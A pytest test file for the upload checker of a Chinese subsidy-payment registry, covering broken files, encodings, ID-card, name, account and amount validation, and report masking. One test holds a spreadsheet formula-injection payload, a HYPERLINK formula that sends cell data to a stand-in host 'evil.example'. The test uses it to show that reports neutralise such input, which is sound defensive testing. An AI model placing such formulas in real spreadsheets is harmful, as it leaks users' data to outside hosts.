"""File intake at the edges: files that are not tables, broken encodings and headers, IDs,
names, accounts and amounts that are wrong in the ways clerks get them wrong, and report cells
that must never run as formulas."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Sequence
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from ykt_kit import idcard, synthetic
from ykt_registry.intake import (
    BENEFICIARY_FORM,
    PAYMENT_FORM,
    BeneficiaryChecker,
    FileRejected,
    PaymentChecker,
    RowIssue,
    Severity,
    open_table,
    safe_cell,
    write_issue_report,
)
from ykt_registry.intake.fixtures import (
    BANK_NAMES,
    PAYMENT_HEADER,
    TOWN_NAMES,
    payment_rows,
    people,
    write_csv,
)
from ykt_registry.intake.forms import SeenIds, parse_yuan

TODAY = date(2025, 1, 15)
TOWN = "500104101000"
PAY_HEADER = ["身份证号码", "姓名", "账号", "代发银行", "发放金额（元）", "镇街", "村（社区）"]
PERSON = next(people(1))


def _rejected(data: bytes | Path, filename: str, **kw: Any) -> FileRejected:
    with pytest.raises(FileRejected) as info:
        with open_table(data, filename, **kw) as table:
            list(table)
    return info.value


def _pay(**overrides: str) -> dict[str, str]:
    cells = {
        "id_number": PERSON.id_number,
        "name": PERSON.name,
        "account_no": PERSON.account_no,
        "bank": "CQRCB",
        "amount": "100",
        "town": TOWN,
        "village": "民胜村",
    }
    return cells | overrides


def _check(rows: Sequence[dict[str, str]], **kw: Any) -> PaymentChecker:
    checker = PaymentChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY, **kw)
    for n, cells in enumerate(rows, start=2):
        checker.check(n, cells)
    return checker


def _codes(checker: PaymentChecker | BeneficiaryChecker) -> list[tuple[int, str, str]]:
    return [(i.row, i.column, i.code) for i in checker.issues]


# ------------------------------------------------------------------ whole-file rejections


def test_zero_byte_file_is_file_empty(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"")
    exc = _rejected(tmp_path / "a.csv", "a.csv")
    assert (exc.code, exc.message) == ("FILE_EMPTY", "文件为空（0字节）")
    assert _rejected(b"\n\r\n ,,\n", "blank.csv").code == "FILE_EMPTY"


def test_png_and_random_bytes_are_not_tables(tmp_path: Path) -> None:
    png = b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(300)
    exc = _rejected(png, "名册.xlsx")
    assert exc.code == "FILE_NOT_TABLE" and "PNG" in exc.message
    assert _rejected(random.Random(7).randbytes(4096), "名册.csv").code == "FILE_NOT_TABLE"
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    assert ".xls" in _rejected(ole2, "旧表.xls").message


def test_corrupt_zip_named_xlsx_and_a_zip_that_is_no_workbook(tmp_path: Path) -> None:
    path = tmp_path / "p.xlsx"
    openpyxl.Workbook().save(path)
    data = path.read_bytes()
    assert _rejected(data[: len(data) // 2], "p.xlsx").code == "FILE_NOT_TABLE"
    other = tmp_path / "x.zip"
    with zipfile.ZipFile(other, "w") as z:
        z.writestr("readme.txt", "hello")
    exc = _rejected(other, "x.xlsx")
    assert (exc.code, exc.message) == ("FILE_NOT_TABLE", "文件已损坏或不是 Excel 工作簿（.xlsx），无法读取")


def test_missing_required_columns_are_named_in_chinese() -> None:
    data = "姓名,身份证号码,金额\n张三,1,1\n".encode()
    exc = _rejected(data, "p.csv", form=PAYMENT_FORM)
    assert exc.code == "FILE_HEADER_MISSING"
    assert exc.message == "缺少必填列：账号、代发银行、镇街（表头位于第1行）"
    no_amount = "身份证号码,姓名,账号,代发银行,镇街\n".encode()
    assert "发放金额（元）或数量" in _rejected(no_amount, "p.csv", form=PAYMENT_FORM).message
    exc = _rejected("这不是表格\n只是一段文字\n".encode(), "note.csv")
    assert exc.code == "FILE_HEADER_MISSING" and "未找到表头行" in exc.message


def test_two_columns_for_one_field_are_refused() -> None:
    data = "身份证号码,姓名,账号,银行,银行代码,金额,镇街\n".encode()
    exc = _rejected(data, "p.csv")
    assert exc.code == "FILE_HEADER_DUPLICATE"
    assert "【代发银行】对应多列（D列“银行”、E列“银行代码”）" in exc.message


def test_undecodable_text_is_file_encoding() -> None:
    data = "身份证号码,姓名,账号,代发银行,金额,镇街\n".encode() + b"\xff\xfe\xff,\xff\n"
    assert _rejected(data, "p.csv").code == "FILE_ENCODING"


def test_too_many_rows_is_refused_at_the_configured_limit(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "p.csv", PAYMENT_HEADER, payment_rows(11))
    with open_table(path, "p.csv", max_rows=11) as table:
        assert len(list(table)) == 11
    exc = _rejected(path, "p.csv", max_rows=10)
    assert exc.code == "FILE_TOO_MANY_ROWS" and "10" in exc.message


# ------------------------------------------------------------------ encodings and header tolerance


def test_ascii_for_the_first_chunks_then_gbk_is_still_decoded_right() -> None:
    header = "id_number,name,account_no,bank,amount,town\n"
    filler = f"{PERSON.id_number},Li Lei,{PERSON.account_no},CQRCB,1,{TOWN}\n" * 3000  # > 64 KiB of ASCII
    data = (header + filler).encode() + f"{PERSON.id_number},张三,1,CQRCB,1,{TOWN}\n".encode("gbk")
    with open_table(data, "p.csv") as table:
        rows = list(table)
        assert table.encoding == "gb18030"
    assert rows[-1][1]["name"] == "张三" and len(rows) == 3001


def test_utf16_tab_separated_unicode_text_as_excel_saves_it() -> None:
    lines = [
        "\t".join(PAY_HEADER),
        "\t".join([PERSON.id_number, "张三", PERSON.account_no, "CQRCB", "5", TOWN, ""]),
    ]
    with open_table(("\r\n".join(lines) + "\r\n").encode("utf-16"), "u.txt") as table:
        assert table.delimiter == "\t"
        ((_, cells),) = list(table)
    assert cells["name"] == "张三" and cells["amount"] == "5"


def test_header_labels_with_spaces_fullwidth_brackets_stars_and_remarks() -> None:
    header = " * 身份证 号码 ,姓　名*,账号（卡号）,【代发银行】,发放金额(单位：元),镇街（代码）,村(社区)"
    row = f'="{PERSON.id_number}",{PERSON.name},{PERSON.account_no},CQRCB,"1,200.50",{TOWN},民胜村'
    with open_table(f"{header}\n{row}\n".encode(), "p.csv") as table:
        assert set(table.columns) == {"id_number", "name", "account_no", "bank", "amount", "town", "village"}
        ((n, cells),) = list(table)
    assert cells["id_number"] == PERSON.id_number  # Excel's ="…" keep-as-text idiom unwrapped
    record = PaymentChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY).check(n, cells)
    assert record is not None and record.amount_fen == 120050


def test_header_on_the_second_sheet_and_table_streams_once(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.append(["说明：请在“名单”工作表填写"])
    ws = wb.create_sheet("名单")
    ws.append(PAY_HEADER)
    ws.append([PERSON.id_number, PERSON.name, PERSON.account_no, "CQRCB", "1", TOWN, ""])
    wb.save(tmp_path / "two.xlsx")
    table = open_table(tmp_path / "two.xlsx", "two.xlsx")
    assert table.sheet == "名单"
    assert len(list(table)) == 1
    with pytest.raises(RuntimeError):
        list(table)


def test_csv_content_under_an_xlsx_name_is_read_as_csv() -> None:
    data = ",".join(PAY_HEADER).encode() + b"\n"
    with open_table(data, "really-a-csv.xlsx") as table:
        assert table.format == "csv"


# ------------------------------------------------------------------ ID numbers


def test_wrong_check_character_lowercase_x_and_legacy_15_digits() -> None:
    good = PERSON.id_number
    wrong = good[:17] + ("1" if good[17] != "1" else "2")
    with_x = next(
        idcard.make("500104", date(1970, 5, 5), s)
        for s in range(1000)
        if idcard.make("500104", date(1970, 5, 5), s)[-1] == "X"
    )
    checker = _check(
        [
            _pay(id_number=wrong),
            _pay(id_number=with_x.lower(), account_no="6228480402564890018"),
            _pay(id_number="500104700505123"),
            _pay(id_number="50010419700505１２３X"),
        ]
    )
    assert _codes(checker)[0] == (2, "身份证号码", "ID_CHECKSUM")
    assert checker.issues[0].message == "第2行【身份证号码】：校验位错误"
    assert checker.issues[0].value == good[0] + "*" * 16 + wrong[-1]
    assert (3, "身份证号码", "PERSON_DUPLICATE") not in _codes(checker)
    assert _codes(checker)[1] == (4, "身份证号码", "ID_LEGACY_15")
    row = PaymentChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY).check(
        3, _pay(id_number=with_x.lower())
    )
    assert row is not None and row.id_number == with_x and row.id_number.endswith("X")


def test_29_february_exists_in_1988_but_not_in_1989_and_no_future_births() -> None:
    leap = idcard.make("500104", date(1988, 2, 29), 123)
    first17 = "500104" + "19890229" + "123"
    not_leap = first17 + idcard.check_char(first17)
    future17 = "500104" + "20250116" + "123"
    checker = _check(
        [
            _pay(id_number=leap),
            _pay(id_number=not_leap),
            _pay(id_number=future17 + idcard.check_char(future17)),
        ]
    )
    assert _codes(checker) == [(3, "身份证号码", "ID_BIRTH_DATE"), (4, "身份证号码", "ID_BIRTH_DATE")]
    assert checker.issues[0].message == "第3行【身份证号码】：出生日期不存在"
    assert checker.summary.accepted == 1


def test_hong_kong_macau_taiwan_residence_permits() -> None:
    permits = [idcard.make(p, date(1990, 3, 1), 7) for p in ("810000", "820000", "830000")]
    bogus = idcard.make("811234", date(1990, 3, 1), 7)
    checker = _check([_pay(id_number=p) for p in permits] + [_pay(id_number=bogus)])
    assert _codes(checker) == [(5, "身份证号码", "ID_PERMIT_PREFIX")]
    assert [idcard.residence_permit_region(p) for p in permits] == ["香港", "澳门", "台湾"]
    assert all(idcard.parse(p).residence_permit for p in permits)
    assert idcard.residence_permit_region(PERSON.id_number) is None


def test_same_person_twice_names_the_earlier_row() -> None:
    other = list(people(2))[1]
    checker = _check(
        [
            _pay(),
            _pay(id_number=other.id_number),
            _pay(id_number=PERSON.id_number.lower()),
        ]
    )
    (issue,) = checker.issues
    assert (issue.row, issue.code) == (4, "PERSON_DUPLICATE")
    assert issue.message == "第4行【身份证号码】：与第2行为同一人（身份证号码重复）"
    assert PERSON.id_number not in issue.value


def test_seen_ids_grow_without_losing_earlier_rows() -> None:
    seen = SeenIds(capacity=4)
    ids = [p.id_number for p in people(5000)]
    assert all(seen.add(i, n) is None for n, i in enumerate(ids, start=2))
    assert len(seen) == 5000
    assert seen.add(ids[4321], 99_999) == 4323


# ------------------------------------------------------------------ names


def test_names_rare_characters_minority_dots_foreign_letters() -> None:
    checker = BeneficiaryChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY)
    base = {
        "id_number": PERSON.id_number,
        "town": "八桥镇",
        "village": "民胜村",
        "bank": "重庆农村商业银行",
        "account_no": PERSON.account_no,
    }
    ok = {
        "𠮷田": "𠮷田",  # U+20BB7, outside the BMP
        "买买提•艾力": "买买提·艾力",
        "买买提.艾力": "买买提·艾力",
        "阿依古丽・吐尔逊": "阿依古丽·吐尔逊",
        "张 三": "张三",
        "JOHN  SMITH": "JOHN SMITH",
        "ＡＮＮＡ": "ANNA",
    }
    for raw, normalised in ok.items():
        seen = SeenIds()
        checker._seen = seen
        row = checker.check(2, base | {"name": raw, "holder_name": raw})
        assert row is not None, (raw, checker.issues)
        assert row.name == normalised
    assert checker.issues == []
    bad = {
        "张3": "不能包含数字",
        "张\x07三": "含有控制字符或不可见字符",
        "·张三": "间隔号“·”只能位于姓名中间",
        "张三😀": "含有不允许的字符“😀”",
        "张" * 41: "长度不能超过40个字（当前41个）",
    }
    for raw, text in bad.items():
        checker._seen = SeenIds()
        assert checker.check(3, base | {"name": raw}) is None
        assert checker.issues[-1].message == f"第3行【姓名】：{text}", raw


def test_empty_name_and_account_holder_not_the_person() -> None:
    checker = BeneficiaryChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY)
    cells = {
        "name": "",
        "id_number": PERSON.id_number,
        "town": TOWN,
        "village": "民胜村",
        "bank": "CQRCB",
        "account_no": PERSON.account_no,
    }
    assert checker.check(2, cells) is None
    assert checker.issues[-1].message == "第2行【姓名】：不能为空"
    assert (
        checker.check(
            3, cells | {"name": "张三", "holder_name": "李四", "id_number": list(people(2))[1].id_number}
        )
        is None
    )
    assert checker.issues[-1].code == "HOLDER_MISMATCH" and checker.issues[-1].value == "李*"


# ------------------------------------------------------------------ phones, banks, towns, accounts


def test_phone_numbers_mobile_and_landline_with_area_code() -> None:
    checker = BeneficiaryChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY)
    ids = [p.id_number for p in people(6)]
    base = {
        "name": "张三",
        "town": TOWN,
        "village": "民胜村",
        "bank": "CQRCB",
        "account_no": PERSON.account_no,
    }
    phones = ["138 1234 5678", "+86 13812345678", "023-68812345", "(010)88886666", "68812345", "1381234567"]
    rows = [
        checker.check(n, base | {"id_number": i, "phone": ph})
        for n, (i, ph) in enumerate(zip(ids, phones, strict=True))
    ]
    assert [r.phone if r else None for r in rows] == [
        "13812345678",
        "13812345678",
        "023-68812345",
        "010-88886666",
        None,
        None,
    ]
    assert [i.code for i in checker.issues] == ["PHONE_FORMAT", "PHONE_FORMAT"]


def test_unknown_bank_and_town_and_names_instead_of_codes() -> None:
    checker = _check(
        [
            _pay(bank="中国农业银行", town="八桥"),
            _pay(id_number=list(people(2))[1].id_number, bank="花旗银行", town="500104999000"),
        ]
    )
    assert _codes(checker) == [(3, "代发银行", "BANK_UNKNOWN"), (3, "镇街", "TOWN_UNKNOWN")]
    assert checker.issues[0].message == "第3行【代发银行】：代发银行“花旗银行”不存在（请填写代码或全称）"


def test_luhn_failure_is_only_a_warning_and_passbooks_are_not_cards() -> None:
    body = "621700001234567890"
    bad_luhn = body + str((int(synthetic.luhn_digit(body)) + 1) % 10)
    checker = _check([_pay(account_no=bad_luhn)])
    (issue,) = checker.issues
    assert (issue.code, issue.severity, issue.severity == "warning") == (
        "ACCOUNT_LUHN",
        Severity.WARNING,
        True,
    )
    assert issue.value == "*" * 15 + bad_luhn[-4:]
    assert checker.summary.accepted == 1 and checker.summary.warnings == 1
    b = BeneficiaryChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY)
    cells = {"name": "张三", "id_number": PERSON.id_number, "town": TOWN, "village": "x", "bank": "CQRCB"}
    assert b.check(2, cells | {"account_no": bad_luhn, "carrier": "存折"}) is not None
    assert b.issues == []


def test_account_numbers_digits_only_10_to_30() -> None:
    ids = [p.id_number for p in people(4)]
    checker = _check(
        [
            _pay(id_number=ids[0], account_no="6217 0000 1234 5678 903"),
            _pay(id_number=ids[1], account_no="62170000ABCD"),
            _pay(id_number=ids[2], account_no="123456789"),
            _pay(id_number=ids[3], account_no="1" * 31),
        ]
    )
    assert [i.message for i in checker.issues if i.code == "ACCOUNT_FORMAT"] == [
        "第3行【账号】：只能包含数字",
        "第4行【账号】：长度应为10至30位（当前9位）",
        "第5行【账号】：长度应为10至30位（当前31位）",
    ]


# ------------------------------------------------------------------ amounts


@pytest.mark.parametrize(
    ("text", "fen"),
    [
        ("12.3", 1230),
        ("12.30", 1230),
        ("12.300", 1230),
        ("0.01", 1),
        ("1,234.50", 123450),
        ("１２．５", 1250),
        ("￥88", 8800),
        ("65元", 6500),
        ("99999999.99", 9_999_999_999),
    ],
)
def test_amounts_in_yuan_are_exact_fen(text: str, fen: int) -> None:
    assert parse_yuan(text) == fen


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("12.345", "AMOUNT_DECIMALS"),
        ("0", "AMOUNT_NOT_POSITIVE"),
        ("0.00", "AMOUNT_NOT_POSITIVE"),
        ("-5", "AMOUNT_NOT_POSITIVE"),
        ("(5.00)", "AMOUNT_NOT_POSITIVE"),
        ("abc", "AMOUNT_FORMAT"),
        ("1e3", "AMOUNT_FORMAT"),
        ("12,34", "AMOUNT_FORMAT"),
        ("1,2345.00", "AMOUNT_FORMAT"),
        ("12.", "AMOUNT_FORMAT"),
    ],
)
def test_bad_amounts_are_rejected_with_a_code(text: str, code: str) -> None:
    checker = _check([_pay(amount=text)])
    assert [(i.code, i.column) for i in checker.issues] == [(code, "发放金额（元）")]
    assert checker.summary.accepted == 0 and checker.summary.amount_fen == 0


def test_amount_from_quantity_times_rate_and_its_consistency() -> None:
    ids = [p.id_number for p in people(5)]
    checker = _check(
        [
            _pay(id_number=ids[0], amount="", quantity="3.25"),  # 3.25 亩 × 110.55 = 359.2875 → 359.29
            _pay(id_number=ids[1], amount="359.29", quantity="3.25"),
            _pay(id_number=ids[2], amount="360", quantity="3.25"),
            _pay(id_number=ids[3], amount="", quantity="1.23456"),
            _pay(id_number=ids[4], amount="", quantity=""),
        ],
        rate_yuan="110.55",
    )
    assert checker.summary.accepted == 2 and checker.summary.amount_fen == 2 * 35929
    assert _codes(checker) == [
        (4, "发放金额（元）", "AMOUNT_MISMATCH"),
        (5, "数量", "QUANTITY_DECIMALS"),
        (6, "发放金额（元）", "REQUIRED_MISSING"),
    ]
    no_rate = _check([_pay(amount="", quantity="2")])
    assert _codes(no_rate) == [(2, "数量", "RATE_MISSING")]


# ------------------------------------------------------------------ the report and formula injection


@pytest.mark.parametrize(
    "text", ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "＝1+2", "＋1", "－1", "＠x", " =1"]
)
def test_safe_cell_neutralises_formula_starts(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("张三=1") == "张三=1" and safe_cell(12) == 12 and safe_cell(None) is None


def test_cell_starting_with_equals_ends_up_in_the_report_as_text(tmp_path: Path) -> None:
    inject = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    data = (
        ",".join(PAY_HEADER)
        + "\n"
        + ",".join(
            [
                PERSON.id_number,
                '"' + inject.replace('"', '""') + '"',
                PERSON.account_no,
                "CQRCB",
                "1",
                TOWN,
                "=1+1",
            ]
        )
        + "\n"
    ).encode()
    checker = PaymentChecker(towns=TOWN_NAMES, banks=BANK_NAMES, today=TODAY)
    with open_table(data, "x.csv") as table:
        for n, cells in table:
            assert cells["name"] == inject
            checker.check(n, cells)
    (issue,) = checker.issues
    assert issue.code == "NAME_CHARS" and issue.value.startswith("=")
    extra = [
        RowIssue(2, "=1+2", "X", "-1", Severity.WARNING, "@SUM(1)"),
        RowIssue(3, "村（社区）", "X", "ok", Severity.ERROR, "＝1+2\x01"),
    ]
    report = tmp_path / "r.xlsx"
    write_issue_report([issue, *extra], report)
    ws = openpyxl.load_workbook(report)["错误明细"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not any(t.startswith(("=", "+", "-", "@", "＝")) for t in texts)
    assert "'" + issue.value in texts and "'=1+2" in texts and "'-1" in texts and "'＝1+2\ufffd" in texts
    # Nor does it become a formula when opened in formula mode (data_only=False is the default).
    assert ws.cell(row=2, column=6).value == "'" + issue.value


def test_report_masks_numbers_even_when_an_issue_quotes_them_raw(tmp_path: Path) -> None:
    raw = RowIssue(5, "备注", "X", f"第5行：{PERSON.id_number}", Severity.ERROR, PERSON.account_no)
    write_issue_report([raw], tmp_path / "m.xlsx")
    values = [
        v
        for row in openpyxl.load_workbook(tmp_path / "m.xlsx")["错误明细"].iter_rows(values_only=True)
        for v in row
    ]
    assert PERSON.id_number not in str(values) and PERSON.account_no not in str(values)


def test_issues_beyond_the_cap_are_counted_not_kept() -> None:
    checker = _check([_pay(amount="x") for _ in range(5)], max_issues=2)
    assert len(checker.issues) == 2
    assert checker.summary.errors == 9  # 5 amount errors + 4 duplicates
    assert checker.summary.issues_dropped == 7
    assert checker.issues[0].as_dict()["severity"] == "error"


def test_forms_declare_the_annex2_columns() -> None:
    assert [f.label for f in BENEFICIARY_FORM.fields] == [
        "姓名",
        "身份证号码",
        "联系电话",
        "镇街",
        "村（社区）",
        "户号",
        "账户载体",
        "代发银行",
        "账号",
        "账户户名",
    ]
